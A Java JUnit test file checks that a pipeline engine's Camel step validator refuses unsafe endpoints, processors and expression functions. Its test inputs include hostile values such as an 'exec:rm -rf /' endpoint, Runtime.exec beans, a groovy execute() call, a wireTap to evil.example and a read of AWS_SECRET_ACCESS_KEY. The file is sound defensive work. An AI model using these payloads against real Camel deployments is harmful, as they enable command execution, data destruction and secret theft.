package dev.braid.engine.steps.camel;

import static dev.braid.engine.read.SpecAssertions.HEADER;
import static dev.braid.engine.read.SpecAssertions.assertAt;
import static dev.braid.engine.read.SpecAssertions.error;
import static dev.braid.engine.read.SpecAssertions.errors;
import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.braid.engine.read.PipelineReader;
import dev.braid.engine.spec.PipelineSpec;
import dev.braid.engine.spec.Step;
import dev.braid.engine.spec.ValidationError;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The camel escape hatch refuses endpoints, processors and simple functions that reach outside. */
class CamelSafetyTest {

    private static String camel(String processors) {
        return HEADER + "steps:\n  - id: c\n    camel:\n      steps:\n" + processors.indent(8);
    }

    @Test
    void execSchemeIsRefusedAtTheUri() {
        ValidationError e = error(errors(camel("- to: \"exec:rm?args=-rf /\"")), "scheme");
        assertEquals("endpoint scheme 'exec' is not allowed (allowed: log)", e.message());
        assertAt(e, 8, 15, "steps[0].camel.steps[0].to");
    }

    @Test
    void fileSchemeIsRefusedInTheUriForm() {
        ValidationError e = error(errors(camel("- to:\n    uri: file:/etc")), "scheme");
        assertEquals("endpoint scheme 'file' is not allowed (allowed: log)", e.message());
        assertAt(e, 9, 18, "steps[0].camel.steps[0].to.uri");
    }

    @Test
    void beanSchemeIsRefusedLikeAnyOtherScheme() {
        List<ValidationError> errors = errors(camel("- to: \"bean:runtime?method=exec\"\n- to: \"log:x?formatter=#class:com.Evil\""));
        assertAt(error(errors, "endpoint scheme 'bean' is not allowed (allowed: log)"), 8, 15, "steps[0].camel.steps[0].to");
        assertAt(error(errors, "bean references"), 9, 15, "steps[0].camel.steps[1].to");
    }

    @Test
    void processorsAreSingleKeyMaps() {
        List<ValidationError> errors = errors(camel("- \"log:x\"\n- { to: \"log:a\", log: b }"));
        assertEquals(2, errors.size(), errors.toString());
        assertAt(errors.get(0), 8, 11, "steps[0].camel.steps[0]");
        assertAt(errors.get(1), 9, 11, "steps[0].camel.steps[1]");
    }

    @Test
    void dynamicEndpointsAreCheckedToo() {
        List<ValidationError> errors = errors(camel("""
                - toD: "sql:select * from t"
                - wireTap: { uri: "http://evil.example" }
                - enrich: { expression: { simple: "${header.target}" } }
                - recipientList: { constant: "log:a,jdbc:ds" }
                """));
        assertAt(error(errors, "'sql'"), 8, 16, "steps[0].camel.steps[0].toD");
        assertAt(error(errors, "'http'"), 9, 27, "steps[0].camel.steps[1].wireTap.uri");
        assertAt(error(errors, "written literally"), 10, 43, "steps[0].camel.steps[2].enrich.expression.simple");
        assertAt(error(errors, "'jdbc'"), 11, 38, "steps[0].camel.steps[3].recipientList.constant");
    }

    @Test
    void beanProcessorIsRefusedAtTheKey() {
        ValidationError e = error(errors(camel("- bean:\n    beanType: java.lang.Runtime\n    method: exec")), "arbitrary code");
        assertEquals("'bean' can run arbitrary code and is not allowed in a camel step", e.message());
        assertAt(e, 8, 11, "steps[0].camel.steps[0].bean");
    }

    @Test
    void processAndScriptAreRefused() {
        List<ValidationError> errors = errors(camel("- process: { ref: myProcessor }\n- script: { groovy: \"x\" }"));
        assertAt(error(errors, "'process'"), 8, 11, "steps[0].camel.steps[0].process");
        assertAt(error(errors, "'script'"), 9, 11, "steps[0].camel.steps[1].script");
    }

    @Test
    void otherExpressionLanguagesAreRefused() {
        List<ValidationError> errors = errors(camel("""
                - setBody: { groovy: "'x'.execute()" }
                - setHeader: { name: a, language: { language: joor, expression: "1" } }
                """));
        assertEquals(
                "expression language 'groovy' is not allowed (allowed: constant, simple, jsonpath, header, exchangeProperty)",
                error(errors, "'groovy'").message());
        assertAt(error(errors, "'groovy'"), 8, 22, "steps[0].camel.steps[0].setBody.groovy");
        assertAt(error(errors, "'joor'"), 9, 55, "steps[0].camel.steps[1].setHeader.language.language");
    }

    @Test
    void simpleEnvFunctionIsRefused() {
        ValidationError e = error(errors(camel("- setBody: { simple: \"${env:AWS_SECRET_ACCESS_KEY}\" }")), "simple function");
        assertEquals("simple function '${env:…}' reaches outside the exchange and is not allowed in a camel step",
                e.message());
        assertAt(e, 8, 30, "steps[0].camel.steps[0].setBody.simple");
    }

    @Test
    void simpleFunctionsReachingOutsideAreRefusedEverywhere() {
        List<ValidationError> errors = errors(camel("""
                - log: "home is ${sys:user.home}"
                - setBody: { simple: "${exchange.context}" }
                - setHeader: { name: b, simple: "${bean:foo.bar}" }
                - setHeader: { name: c, simple: "${body.getClass().forName('x')}" }
                - setHeader: { name: d, simple: "${camelContext.name}" }
                - log: "{{env:HOME}}"
                """));
        assertEquals(6, errors.size(), errors.toString());
        assertAt(error(errors, "${sys"), 8, 16, "steps[0].camel.steps[0].log");
        assertAt(error(errors, "calls a method"), 11, 41, "steps[0].camel.steps[3].setHeader.simple");
        assertAt(error(errors, "property placeholders"), 13, 16, "steps[0].camel.steps[5].log");
    }

    @Test
    void harmlessProcessorsPass() {
        PipelineSpec spec = new PipelineReader().read(camel("""
                - setHeader: { name: kind, constant: audit }
                - setBody: { simple: "${body} for ${header.kind} #${exchangeProperty.n} ${date:now:yyyy}" }
                - filter: { jsonpath: "$.ok", steps: [ { to: "log:ok" } ] }
                - log: "done"
                """));
        assertEquals(4, ((Step.Camel) spec.steps().get(0).step()).steps().size());
    }
}
